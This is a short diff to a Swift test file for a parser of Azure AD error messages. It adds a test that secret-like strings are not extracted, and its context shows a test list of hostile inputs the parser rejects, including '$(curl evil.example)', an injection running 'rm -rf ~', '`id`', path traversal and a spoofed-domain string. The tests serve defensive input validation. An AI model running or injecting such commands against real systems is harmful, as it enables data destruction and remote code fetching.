@@ -189,6 +189,13 @@ private let liveWordings = [
   }
 
   @Test(arguments: [
+    "client_secret = 'app \(application)'", "Authorization: Bearer app=\(application)",
+    "{\"password\":\"app \(application)\"}",
+  ]) func areNotReadOutOfASecret(_ secret: String) {
+    #expect(values("AADSTS7000215: Invalid client secret provided.\n\(secret)") == [:])
+  }
+
+  @Test(arguments: [
     "$(curl evil.example)", "`id`", "x'; rm -rf ~; '", "a\nb", "a\u{1B}[2J", "%24%28id%29", "||id",
     "evil.example/../x", "соntоsо.com", "../..", "&lt;script&gt;", "a\u{202E}moc.osotnoc",
   ]) func hostileOnesAreLeftOut(_ value: String) {
